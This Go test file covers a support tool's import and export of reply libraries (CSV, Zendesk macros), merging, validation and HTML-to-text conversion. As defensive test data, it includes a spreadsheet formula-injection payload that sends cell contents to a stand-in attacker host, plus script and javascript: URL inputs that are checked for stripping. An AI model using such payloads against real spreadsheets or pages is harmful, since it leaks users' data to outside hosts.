package libio

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/warmdesk/warmdesk/suggestions"
	"github.com/warmdesk/warmdesk/suggestions/libdiff"
	"github.com/warmdesk/warmdesk/suggestions/library"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (go test ./suggestions/libio -update creates it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test ./suggestions/libio -update rewrites it; review the diff):\n%s", name, got)
	}
}

func defaultLibrary(t testing.TB) *library.Library {
	t.Helper()
	e, err := suggestions.Default()
	if err != nil {
		t.Fatal(err)
	}
	return e.Library()
}

func readFile(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// importText renders an import's result for a golden file: the merged
// library's intents and the notes.
func importText(t *testing.T, lib *library.Library, notes []library.Problem) []byte {
	t.Helper()
	data, err := json.MarshalIndent(struct {
		Intents []library.Intent  `json:"intents"`
		Notes   []library.Problem `json:"notes"`
	}{lib.Intents, notes}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return append(data, '\n')
}

// The default library goes out as CSV and comes back the same.
func TestRepliesCSVRoundTrip(t *testing.T) {
	lib := defaultLibrary(t)
	back, _ := csvRoundTrip(t, lib)
	if d := libdiff.Diff(lib, back); !d.Empty() {
		t.Errorf("the CSV round trip changed the library:\n%s", d)
	}
	if !reflect.DeepEqual(lib.Intents, back.Intents) {
		t.Error("the CSV round trip changed the order or content of intents")
	}
}

// The default library goes out as Zendesk macros and comes back with
// every reply's title and text, and its placeholders, as they were;
// intents get ids from their titles (Zendesk keeps no ids) and starting
// phrasings (Zendesk keeps no phrasings).
func TestZendeskRoundTrip(t *testing.T) {
	lib := defaultLibrary(t)
	var buf bytes.Buffer
	notes, err := WriteZendesk(&buf, lib)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "{{ticket.requester.first_name}}") && strings.Contains(buf.String(), "{{customer.first_name}}") {
		t.Error("customer.first_name was not mapped to Zendesk's placeholder")
	}
	shortcuts := 0
	for _, n := range notes {
		if strings.Contains(n.Message, "no shortcut") {
			shortcuts++
		}
	}
	if shortcuts == 0 {
		t.Errorf("shortcuts are lost in Zendesk, and the notes must say so: %v", notes)
	}
	imp, err := ReadZendesk("macros.json", buf.Bytes(), ZendeskOptions{})
	if err != nil {
		t.Fatal(err)
	}
	back, err := Merge(Base(lib), "default.json", imp)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Intents) != len(lib.Intents) {
		t.Fatalf("%d intents came back, %d went out", len(back.Intents), len(lib.Intents))
	}
	for i, in := range lib.Intents {
		got := back.Intents[i]
		if got.Title != in.Title || got.Category != in.Category || len(got.Replies) != len(in.Replies) || len(got.Phrasings) == 0 {
			t.Errorf("intent %s came back as %s %q %q with %d replies, %d phrasings", in.ID, got.ID, got.Title, got.Category, len(got.Replies), len(got.Phrasings))
			continue
		}
		for j, r := range in.Replies {
			if got.Replies[j].Title != r.Title || got.Replies[j].Body != r.Body {
				t.Errorf("reply %s came back as %+v", r.ID, got.Replies[j])
			}
		}
	}
}

func TestReadZendeskSample(t *testing.T) {
	imp, err := ReadZendesk("zendesk-macros.json", readFile(t, "zendesk-macros.json"), ZendeskOptions{})
	if err != nil {
		t.Fatal(err)
	}
	lib, err := Merge(nil, "", imp)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "zendesk-import.golden.json", importText(t, lib, imp.Notes))

	ids := map[string]library.Intent{}
	for _, in := range lib.Intents {
		ids[in.ID] = in
	}
	late := ids["shipping.late_delivery"]
	if late.Title != "Late delivery" || late.Category != "Shipping" || len(late.Replies) != 2 {
		t.Fatalf("two macros under Shipping::Late delivery make one intent: %+v", late)
	}
	if b := late.Replies[0].Body; !strings.HasPrefix(b, "Hi {{customer.first_name}},") || !strings.Contains(b, "{{ticket.id}}") || !strings.HasSuffix(b, "{{agent.first_name}}") {
		t.Errorf("placeholders not mapped: %q", b)
	}
	html := late.Replies[1].Body
	for _, want := range []string{"Hello {{customer.first_name}},\n\nI've upgraded your order to express at no cost.\nTrack it here (https://track.example.com/{{ticket.id}}).", "- Arrives in 1–2 days\n- No extra charge"} {
		if !strings.Contains(html, want) {
			t.Errorf("HTML comment as text: %q lacks %q", html, want)
		}
	}
	if strings.Contains(html, "alert") || strings.Contains(html, "<") {
		t.Errorf("markup or script left in %q", html)
	}
	if r := ids["returns"].Replies; len(r) != 1 || strings.Contains(r[0].Body, "channel:") || !strings.Contains(r[0].Body, "{{company.name}}") {
		t.Errorf("comment_value as a list: %+v", r)
	}
	if _, ok := ids["close_and_tag_as_spam"]; ok {
		t.Error("a macro without comment text must be skipped")
	}
	if th := ids["thank_you"]; len(th.Replies) != 1 || th.Title != "Thank you" {
		t.Errorf("a macro without a category is an intent of its own: %+v", th)
	}
	notes := noteText(imp.Notes)
	for _, want := range []string{
		`macro 9004 "Close and tag as spam": actions: has no comment text`,
		`macro 9005 "Returns::Old return policy": active: the macro is inactive; skipped`,
		`macro 9006 "Thank you": actions[0].value: placeholder {{satisfaction.rating_section}} is kept as it is`,
		"intent shipping.late_delivery has no phrasings",
	} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q:\n%s", want, notes)
		}
	}
	// With inactive macros included, the retired one comes in.
	imp, err = ReadZendesk("zendesk-macros.json", readFile(t, "zendesk-macros.json"), ZendeskOptions{IncludeInactive: true})
	if err != nil || imp.Intents[1].ID != "returns" || len(imp.Intents[1].Replies) != 2 {
		t.Errorf("include inactive: %v %+v", err, imp.Intents)
	}
}

func noteText(ps []library.Problem) string {
	var b strings.Builder
	for _, p := range ps {
		b.WriteString(p.String() + "\n")
	}
	return b.String()
}

func TestReadRepliesCSVSample(t *testing.T) {
	imp, err := ReadRepliesCSV("replies.csv", readFile(t, "replies.csv"))
	if err != nil {
		t.Fatal(err)
	}
	lib, err := Merge(nil, "", imp)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "replies-import.golden.json", importText(t, lib, imp.Notes))
	if len(lib.Intents) != 3 {
		t.Fatalf("want refunds, account.sign_in and hours, got %+v", lib.Intents)
	}
	refunds := lib.Intents[0]
	wantPhr := []string{"where is my refund", "refund not received", "has my money been sent back?", "how do refunds work", "can I return this"}
	if refunds.ID != "refunds" || !reflect.DeepEqual(refunds.Phrasings, wantPhr) || len(refunds.Replies) != 2 || refunds.Replies[0].Shortcut != "refund-sent" {
		t.Errorf("refunds: %+v", refunds)
	}
	if in := lib.Intents[1]; in.ID != "account.sign_in" || in.Title != "Sign in" || in.Category != "Account" || in.Replies[0].Shortcut != "pw" ||
		!strings.Contains(in.Replies[0].Body, "{{customer.first_name}}") {
		t.Errorf("category path: %+v", in)
	}
	if in := lib.Intents[2]; in.ID != "hours" || in.Title != "Hours" || len(in.Phrasings) != 1 {
		t.Errorf("a row without a category: %+v", in)
	}
	notes := noteText(imp.Notes)
	for _, want := range []string{"header: owner: unknown column, ignored", "row 2: body: placeholder {{ticket.amount}} is kept"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q:\n%s", want, notes)
		}
	}
}

// Bad files are refused with every problem, each naming the file, the
// row or macro, and the field.
func TestBadFiles(t *testing.T) {
	tests := []struct {
		name, format, data string
		want               []string // exactly these problems, in this order
	}{
		{"csv empty", "csv", "", []string{"f: header: -: the file is empty"}},
		{"csv no columns", "csv", "name,text\nx,y\n", []string{
			`f: header: title: no column named "title" (columns: name, text)`,
			`f: header: body: no column named "body" (columns: name, text)`}},
		{"csv invalid utf8", "csv", "title,body\n\xff,x\n", []string{"f: document: -: is not valid UTF-8 (save the file as UTF-8)"}},
		{"csv rows", "csv", "title,body,category,shortcut\n" +
			",no title,Refunds,\n" + // row 2
			"No body,,Refunds,\n" + // row 3
			"Bad shortcut,Text.,Refunds,refund!\n" + // row 4
			"Same shortcut,Text two.,Refunds,refund\n" + // row 5
			"Same shortcut again,Text three.,Other,refund\n" + // row 6
			"Bad placeholder,Hi {{Name}},Refunds,\n" + // row 7
			"Open placeholder,Hi {{name,Refunds,\n", // row 8
			[]string{
				"f: row 2: title: is empty",
				"f: row 3: body: is empty",
				`f: row 4: shortcut: "refund!" must be lowercase letters, digits, '.', '_' or '-', without spaces`,
				`f: row 6: shortcut: "refund" is already the shortcut of reply refunds.same_shortcut`,
				"f: row 7: body: placeholder {{Name}} must be lowercase words joined by dots, such as {{customer.first_name}}",
				`f: row 8: body: has "{{" without "}}"`,
			}},
		{"csv quoting", "csv", "title,body\nGood,\"Fine.\"\nBad,\"unterminated\n", []string{`f: row 3: -: line 3, column 19: extraneous or missing " in quoted-field`}},
		{"csv duplicate reply id", "csv", "title,body,intent,reply\nA,Text a.,x,r1\nB,Text b.,x,r1\n", []string{`f: row 3: reply: "r1" is already the reply of row 2`}},
		{"zendesk not json", "zendesk", `{"macros": [`, []string{"f: document: -: is not valid JSON: unexpected EOF"}},
		{"zendesk not macros", "zendesk", `{"tickets": []}`, []string{`f: document: macros: is missing: this is not a Zendesk macro listing ({"macros": [...]})`}},
		{"zendesk wrong types", "zendesk", `{"macros": [
			{"id": 1, "actions": [{"field": "comment_value", "value": "x"}]},
			{"id": 2, "title": 7, "actions": []},
			{"id": 3, "title": "A::B", "active": "yes", "actions": {}},
			{"id": 4, "title": "C", "actions": [{"field": "comment_value", "value": 12}, {"value": "x"}, "oops"]},
			{"id": 5, "title": "D", "actions": [{"field": "comment_value", "value": "{% if ticket.status == 'open' %}Hi{% endif %}"}]},
			{"id": 6, "title": " :: ", "actions": [{"field": "comment_value", "value": "x"}]},
			{"id": 7, "title": "E", "actions": [{"field": "comment_value", "value": "Hi {{ticket.requester.first_name"}]},
			"not a macro"
		]}`, []string{
			"f: macro 1: title: is required",
			"f: macro 2: title: must be a string, not a number",
			`f: macro 3 "A::B": active: must be true or false, not a string`,
			`f: macro 3 "A::B": actions: must be a list, not an object`,
			`f: macro 4 "C": actions[0].value: must be a string or a list of strings, not a number`,
			`f: macro 4 "C": actions[1].field: must be a string, not null`,
			`f: macro 4 "C": actions[2]: must be an object, not a string`,
			`f: macro 5 "D": actions[0].value: uses Liquid logic ({% ... %}), which a Warmdesk reply cannot hold: write the text out plainly, one reply per case`,
			`f: macro 6 " :: ": title: has no name, only "::"`,
			`f: macro 7 "E": actions[0].value: has "{{" without "}}"`,
			"f: macro #8: -: must be an object, not a string",
		}},
		{"zendesk nothing to import", "zendesk", `{"macros": [{"title": "Old", "active": false, "actions": [{"field": "comment_value", "value": "x"}]}]}`,
			[]string{"f: document: -: has no replies to import"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var imp *Import
			var err error
			if tt.format == "csv" {
				imp, err = ReadRepliesCSV("f", []byte(tt.data))
			} else {
				imp, err = ReadZendesk("f", []byte(tt.data), ZendeskOptions{})
			}
			var ve *library.ValidationError
			if imp != nil || !errors.As(err, &ve) {
				t.Fatalf("want a *ValidationError and no import, got %v, %v", imp, err)
			}
			var got []string
			for _, p := range ve.Problems {
				got = append(got, p.String())
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("problems\n got %q\nwant %q", got, tt.want)
			}
		})
	}
}

// Merge keeps base, merges by id, renames made-up ids that clash, refuses
// clashes of given ids by naming the file's row, and changes nothing on
// failure.
func TestMerge(t *testing.T) {
	base := defaultLibrary(t)
	before, _ := base.MarshalIndent()

	csv := "title,body,category,shortcut,phrasings,intent,reply\n" +
		"Tracking link,Here is your tracking link.,,,where's my stuff,order.track,order.track.status\n" + // replaces a default reply
		"New reply,Here is something new.,,,,order.track,\n" + // added to order.track
		"Calm,I understand how you feel.,Angry,,,,\n" // category "Angry" clashes with the feeling id "angry"
	imp, err := ReadRepliesCSV("new.csv", []byte(csv))
	if err != nil {
		t.Fatal(err)
	}
	lib, err := Merge(base, "default.json", imp)
	if err != nil {
		t.Fatal(err)
	}
	if after, _ := base.MarshalIndent(); !bytes.Equal(before, after) {
		t.Fatal("Merge changed its base")
	}
	if len(lib.Intents) != len(base.Intents)+1 || len(lib.Feelings) != len(base.Feelings) || len(lib.Rules) != len(base.Rules) {
		t.Errorf("base's content must stay: %d intents, %d feelings, %d rules", len(lib.Intents), len(lib.Feelings), len(lib.Rules))
	}
	track := lib.Intents[0]
	if track.ID != "order.track" || len(track.Replies) != len(base.Intents[0].Replies)+1 || track.Replies[0].Body != "Here is your tracking link." ||
		track.Phrasings[len(track.Phrasings)-1] != "where's my stuff" || len(track.Phrasings) != len(base.Intents[0].Phrasings)+1 {
		t.Errorf("merged order.track: %d replies, first %q, %d phrasings", len(track.Replies), track.Replies[0].Body, len(track.Phrasings))
	}
	angry := lib.Intents[len(lib.Intents)-1]
	if angry.ID != "angry-2" || angry.Replies[0].ID != "angry.calm" {
		t.Errorf("a made-up id that clashes is renamed: %s %s", angry.ID, angry.Replies[0].ID)
	}

	// A given id that clashes is a problem named by the row; a shortcut
	// taken in base too.
	bad := "title,body,category,shortcut,phrasings,intent,reply\n" +
		"X,Text x.,,,hello there,refunds_new,angry\n" +
		"Y,Text y.,,track,hello again,refunds_new,\n"
	imp, err = ReadRepliesCSV("bad.csv", []byte(bad))
	if err != nil {
		t.Fatal(err)
	}
	lib, err = Merge(base, "default.json", imp)
	var ve *library.ValidationError
	if lib != nil || !errors.As(err, &ve) {
		t.Fatalf("want refusal, got %v", err)
	}
	want := []string{
		`bad.csv: row 2: reply: "angry" is already the id of feeling angry in default.json`,
		`bad.csv: row 3: shortcut: "track" is already the shortcut of reply order.track.status`,
	}
	var got []string
	for _, p := range ve.Problems {
		got = append(got, p.String())
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("problems\n got %q\nwant %q", got, want)
	}
}

// Imported intents made only of titles get starting phrasings; merged
// into an intent that has phrasings, they add none.
func TestStartingPhrasings(t *testing.T) {
	macros := `{"macros": [{"title": "Orders::Track an order::Quick update", "actions": [{"field": "comment_value", "value": "Here is a quick update."}]}]}`
	imp, err := ReadZendesk("m.json", []byte(macros), ZendeskOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if got := imp.Intents[0].Phrasings; !reflect.DeepEqual(got, []string{"Orders Track an order", "Quick update"}) {
		t.Errorf("starting phrasings %q", got)
	}
	base := defaultLibrary(t)
	lib := *base
	lib.Intents = append([]library.Intent(nil), base.Intents...)
	lib.Intents[0].ID = "orders.track_an_order" // as if imported before
	merged, err := Merge(&lib, "lib.json", imp)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(merged.Intents[0].Phrasings); n != len(base.Intents[0].Phrasings) {
		t.Errorf("starting phrasings were added to an intent with %d phrasings: now %d", len(base.Intents[0].Phrasings), n)
	}
}

func TestHTMLToText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"<p>One</p><p>Two</p>", "One\n\nTwo"},
		{"a<br>b<br/>c", "a\nb\nc"},
		{"  lots   of\n\n spaces  ", "lots of spaces"},
		{"Fish &amp; chips &lt;3 &#8364;5 &nbsp;x", "Fish & chips <3 €5 x"},
		{"<ul><li>one</li><li>two</li></ul>after", "- one\n- two\n\nafter"},
		{`<a href="https://x.example/a?b=1&amp;c=2">the form</a>`, "the form (https://x.example/a?b=1&c=2)"},
		{`<a href="https://x.example">https://x.example</a>`, "https://x.example"},
		{`<a href="javascript:alert(1)">click</a>`, "click"},
		{"<script>alert('x')</script>hi<style>p{}</style>", "hi"},
		{"<!-- note -->kept", "kept"},
		{"unclosed <b", "unclosed <b"},
		{"<p>open paragraph", "open paragraph"},
		{"<SCRIPT>bad()</SCRIPT >ok", "ok"},
		{"&lt;script&gt;stays text&lt;/script&gt;", "<script>stays text</script>"},
		{"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"},
	}
	for _, tt := range tests {
		if got := HTMLToText(tt.in); got != tt.want {
			t.Errorf("HTMLToText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDetectFormat(t *testing.T) {
	tests := []struct{ file, data, want string }{
		{"a.csv", "title,body\n", FormatCSV},
		{"a.CSV", "{}", FormatCSV},
		{"lib.json", `{"format": "warmdesk-library", "intents": []}`, FormatJSON},
		{"macros.json", `{"count": 1, "macros": []}`, FormatZendesk},
		{"macro.json", `{"macro": {"title": "x"}}`, FormatZendesk},
		{"list.json", `[{"title": "x"}]`, FormatZendesk},
		{"export", `{"next_page": null, "macros": []}`, FormatZendesk},
		{"data.txt", "title,body\n", FormatCSV},
		{"broken.json", `{"format": `, FormatJSON},
	}
	for _, tt := range tests {
		if got, err := DetectFormat(tt.file, []byte(tt.data)); err != nil || got != tt.want {
			t.Errorf("DetectFormat(%s) = %q, %v; want %q", tt.file, got, err, tt.want)
		}
	}
	if _, err := DetectFormat("macros.xml", []byte("<macros/>")); err == nil {
		t.Error("an unknown extension with unknown content must ask for a format")
	}
}

// The placeholder table is valid, and every Warmdesk name in it is one
// the composer fills.
func TestPlaceholderTable(t *testing.T) {
	var doc struct {
		Zendesk []struct{ Helpdesk, Warmdesk string } `json:"zendesk"`
	}
	dec := json.NewDecoder(bytes.NewReader(placeholdersJSON))
	if err := dec.Decode(&doc); err != nil || len(doc.Zendesk) == 0 {
		t.Fatalf("data/placeholders.json: %v", err)
	}
	ctx, msg := suggestions.FillablePlaceholders()
	fillable := strings.Join(append(ctx, msg...), " ") + " "
	seen := map[string]bool{}
	for _, p := range doc.Zendesk {
		if seen[p.Helpdesk] {
			t.Errorf("%s is listed twice", p.Helpdesk)
		}
		seen[p.Helpdesk] = true
		if !strings.Contains(" "+fillable, " "+p.Warmdesk+" ") {
			t.Errorf("%s maps to %s, which the composer does not fill", p.Helpdesk, p.Warmdesk)
		}
	}
	if tab := zendeskPlaceholders(); len(tab.in) != len(doc.Zendesk) {
		t.Errorf("table has %d names, file %d", len(tab.in), len(doc.Zendesk))
	}
}

// Ids made from long titles stay within the library's limits, and stay
// unique.
func TestLongTitles(t *testing.T) {
	long := strings.Repeat("Very long category name ", 8)
	title := long + "::" + long + "::" + long
	macros := `{"macros": [{"title": "` + title + `", "actions": [{"field": "comment_value", "value": "One."}]},` +
		`{"title": "` + title + `", "actions": [{"field": "comment_value", "value": "Two."}]}]}`
	imp, err := ReadZendesk("m.json", []byte(macros), ZendeskOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rs := imp.Intents[0].Replies
	if len(rs) != 2 || rs[0].ID == rs[1].ID || len(rs[0].ID) > 120 || len(rs[1].ID) > 120 || len(imp.Intents[0].ID) > 120 {
		t.Errorf("ids %q, %q, %q", imp.Intents[0].ID, rs[0].ID, rs[1].ID)
	}
}

// The replies CSV's promises column: "check: sentence" entries, the
// sentence's placeholders mapped as the body's, each checked against the
// body; what cannot be read apart is reported with its row.
func TestRepliesCSVPromises(t *testing.T) {
	ok := "title,body,category,promises\n" +
		"Refund,\"I've issued a refund for order {{ticket.id}}. Thanks!\",Refunds,refund issued: I've issued a refund for order {{ticket.id}}.\n"
	imp, err := ReadRepliesCSV("p.csv", []byte(ok))
	if err != nil {
		t.Fatal(err)
	}
	got := imp.Intents[0].Replies[0]
	if len(got.Promises) != 1 || got.Promises[0].Check != "refund issued" || !strings.Contains(got.Body, got.Promises[0].Sentence) {
		t.Errorf("promises %+v of body %q", got.Promises, got.Body)
	}
	bad := "title,body,category,promises\n" +
		"Refund,I've issued a refund.,Refunds,refund issued: I've sent a parcel. | no colon here\n"
	_, err = ReadRepliesCSV("p.csv", []byte(bad))
	if err == nil {
		t.Fatal("a promise not in the body was accepted")
	}
	for _, want := range []string{`row 2: promises: "no colon here" must be "check: sentence"`, `"I've sent a parcel." is not in the reply's body`} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("problems lack %q:\n%v", want, err)
		}
	}
}

// Situations share the library's ids: an import's made-up id that is a
// situation's is renamed, a given one is named as a clash; and the
// feelings' situations and sarcasm cues come through an import, and a
// JSON export, as they were.
func TestMergeKeepsSituations(t *testing.T) {
	base := defaultLibrary(t)
	csv := "title,body,category,shortcut,phrasings,intent,reply\n" +
		"Sorry for the wait,It is on its way.,Delivery-late,,,,\n" + // category "Delivery-late" is the situation id "delivery-late"
		"Chasing,We are chasing it.,,,where is it,order.track,\n"
	imp, err := ReadRepliesCSV("new.csv", []byte(csv))
	if err != nil {
		t.Fatal(err)
	}
	lib, err := Merge(base, "default.json", imp)
	if err != nil {
		t.Fatal(err)
	}
	if got := lib.Intents[len(lib.Intents)-1].ID; got != "delivery-late-2" {
		t.Errorf("a made-up id that is a situation's stays %q", got)
	}
	if !reflect.DeepEqual(lib.Feelings, base.Feelings) {
		t.Error("the import changed the feelings' situations or sarcasm cues")
	}
	sit := 0
	for _, in := range lib.Intents {
		if in.Situation != "" {
			sit++
		}
	}
	if sit == 0 {
		t.Error("no merged intent implies a situation any more")
	}

	bad := "title,body,category,shortcut,phrasings,intent,reply\n" +
		"X,Text x.,,,hello there,parcel.news,waiting\n"
	imp, err = ReadRepliesCSV("bad.csv", []byte(bad))
	if err != nil {
		t.Fatal(err)
	}
	_, err = Merge(base, "default.json", imp)
	var ve *library.ValidationError
	if !errors.As(err, &ve) || len(ve.Problems) != 1 || ve.Problems[0].String() != `bad.csv: row 2: reply: "waiting" is already the id of situation waiting of feeling frustrated in default.json` {
		t.Errorf("want the clash named, got %v", err)
	}

	var out bytes.Buffer
	if _, err := Write(&out, lib, FormatJSON); err != nil {
		t.Fatal(err)
	}
	_, back, err := ReadLibraryJSON("export.json", out.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if d := libdiff.Diff(lib, back); !d.Empty() || !reflect.DeepEqual(back.Feelings, lib.Feelings) {
		t.Errorf("the JSON export changed the library:\n%s", d)
	}
}

// A library's text that a spreadsheet would run as a formula goes out as
// text (after an apostrophe) and comes back as it was, as do texts that
// begin with an apostrophe themselves.
func TestRepliesCSVFormulas(t *testing.T) {
	lib := defaultLibrary(t)
	texts := []string{
		`=HYPERLINK("https://attacker.example/?"&A1,"Track your order")`,
		"+1 thanks for asking about your order",
		"-2 days is how long a refund takes",
		"@SUM(1+1) orders arrived",
		"'=already quoted by hand",
		"''+twice",
		"'tis the season for refunds",
	}
	in := &lib.Intents[0]
	for i, s := range texts {
		r := in.Replies[0]
		r.ID = fmt.Sprintf("formula_%d", i)
		r.Title = s
		r.Body = "Hi {{customer.first_name}}, " + s + "."
		r.Promises, r.Shortcut = nil, ""
		in.Replies = append(in.Replies, r)
	}
	in.Phrasings = append(in.Phrasings, "=1+1 where is my parcel")
	back, written := csvRoundTrip(t, lib)
	rows, err := csv.NewReader(bytes.NewReader(written)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", c)
			}
		}
	}
	if !reflect.DeepEqual(lib.Intents, back.Intents) {
		t.Errorf("the CSV round trip changed the library:\n%s", libdiff.Diff(lib, back))
	}
}

// csvRoundTrip writes lib as a replies CSV and reads it back onto lib's
// base, returning the library read and the CSV written.
func csvRoundTrip(t *testing.T, lib *library.Library) (*library.Library, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteRepliesCSV(&buf, lib); err != nil {
		t.Fatal(err)
	}
	imp, err := ReadRepliesCSV("replies.csv", buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	back, err := Merge(Base(lib), "default.json", imp)
	if err != nil {
		t.Fatal(err)
	}
	back.Name = lib.Name
	return back, buf.Bytes()
}
